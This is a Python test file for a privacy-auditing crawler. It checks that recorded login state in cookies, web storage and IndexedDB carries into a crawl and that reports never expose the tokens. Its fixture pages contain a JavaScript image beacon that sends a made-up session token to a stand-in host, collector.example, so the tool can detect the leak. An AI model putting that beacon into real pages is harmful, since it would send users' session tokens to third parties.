"""A session that was recorded: cookies, local and session storage and IndexedDB all stand when the crawl comes."""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from pytest_pixelguard.config import Config, Login, load_config
from pytest_pixelguard.login import Door
from pytest_pixelguard.trackers.parties import FirstParty
from tests.conftest import run_here

pytestmark = pytest.mark.browser
TOKENS = {kind: f"made-up-token-{kind}" for kind in ("cookie", "local", "session", "indexed")}
# Each page shows its marker only where its own kind of storage holds the token, and tells a third party what it holds.
LOOK = """<!doctype html><title>Portal</title><main></main><script>
const show = (token) => {
  if (token !== WANTED) return;
  document.querySelector('main').innerHTML = '<p id="in">Logged in</p>';
  new Image().src = 'https://collector.example/seen?held=' + token;
};
LOOKING
</script>"""
LOOKING = {
    "cookie": "show((document.cookie.match(/portal=([^;]+)/) || [])[1]);",
    "local": "show(localStorage.getItem('token'));",
    "session": "show(sessionStorage.getItem('token'));",
    "indexed": """const request = indexedDB.open('portal', 1);
request.onupgradeneeded = () => request.result.createObjectStore('tokens');
request.onsuccess = () => {
  const found = request.result.transaction('tokens').objectStore('tokens').get('token');
  found.onsuccess = () => show(found.result && found.result.value);
};""",
}
LOG_IN = """<!doctype html><title>Log in</title><script>
document.cookie = 'portal=made-up-token-cookie; path=/';
localStorage.setItem('token', 'made-up-token-local');
sessionStorage.setItem('token', 'made-up-token-session');
const request = indexedDB.open('portal', 1);
request.onupgradeneeded = () => request.result.createObjectStore('tokens');
request.onsuccess = () => {
  const write = request.result.transaction('tokens', 'readwrite');
  write.objectStore('tokens').put({value: 'made-up-token-indexed'}, 'token');
  write.oncomplete = () => { document.body.id = 'in'; };
};
</script><body>"""


@pytest.fixture
def portal() -> Iterator[str]:
    """Serve a portal of four pages, each of which asks another kind of storage; give its origin."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kind = self.path.strip("/")
            page = LOOK.replace("WANTED", json.dumps(TOKENS.get(kind, ""))).replace("LOOKING", LOOKING.get(kind, ""))
            body = (LOG_IN if kind == "log-in" else page).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Print nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def _configured(folder: Path, origin: str) -> Config:
    routes = ", ".join(f'"/{kind}"' for kind in TOKENS)
    (folder / "pixelguard.toml").write_text(
        f'site = "{origin}/"\nstates = ["no-choice"]\n[routes]\npaths = [{routes}]\n'
        '[login]\nstate = "state.json"\nmarker = "#in"\n',
        encoding="utf-8",
    )
    return load_config(folder / "pixelguard.toml")


def _crawled(folder: Path, *options: str) -> tuple[dict[str, Any], str]:
    ran = run_here("crawl", "--report-dir", "out", *options, cwd=folder)
    written = "".join(path.read_text(encoding="utf-8") for path in sorted((folder / "out").iterdir()))
    return json.loads((folder / "out/pixelguard.json").read_text(encoding="utf-8")), ran.out + ran.err + written


def test_every_kind_of_storage_is_kept_and_given_back(tmp_path: Path, portal: str) -> None:
    """What a log-in stores in any of the four ways is recorded and stands in the crawl, and no report shows it."""
    config = _configured(tmp_path, portal)
    door = Door(
        config, Login(marker="#in"), lambda page: page.goto("/log-in"), origin=portal, first_party=FirstParty.of(portal)
    )
    state, during = door.open()
    (tmp_path / "state.json").write_text(state, encoding="utf-8")

    report, everything = _crawled(tmp_path)

    assert (during.gaps, report["gaps"]) == ((), [])
    assert {row["path"] for row in report["coverage"]["routes"] if row["states"]} == {f"/{kind}" for kind in TOKENS}
    assert {row["route"] for row in report["requests"] if row["host"] == "collector.example"} == {
        f"/{kind}" for kind in TOKENS
    }
    assert [token for token in TOKENS.values() if token in everything] == []


def test_a_state_that_has_run_out_is_inconclusive(tmp_path: Path, portal: str) -> None:
    """Where the recorded state lets nobody in, the route is a gap: not-logged-in, and nothing of it passes."""
    _configured(tmp_path, portal)
    (tmp_path / "state.json").write_text('{"cookies": [], "origins": []}', encoding="utf-8")

    report, _ = _crawled(tmp_path, "--route", "/indexed")

    assert report["verdict"] == "inconclusive"
    assert {(gap["rule"], gap["route"]) for gap in report["gaps"] if gap["route"]} == {("PXG909", "/indexed")}


def test_a_state_that_is_no_state_is_wrong_use(tmp_path: Path, portal: str) -> None:
    """A recorded state that is not there, or is no JSON, ends with exit 2 and names the file."""
    _configured(tmp_path, portal)
    absent = run_here("crawl", cwd=tmp_path)
    (tmp_path / "state.json").write_text("cookies", encoding="utf-8")
    broken = run_here("crawl", cwd=tmp_path)

    assert (absent.code, broken.code) == (2, 2)
    assert ["state.json: no recorded state" in ran.err for ran in (absent, broken)] == [True, True]
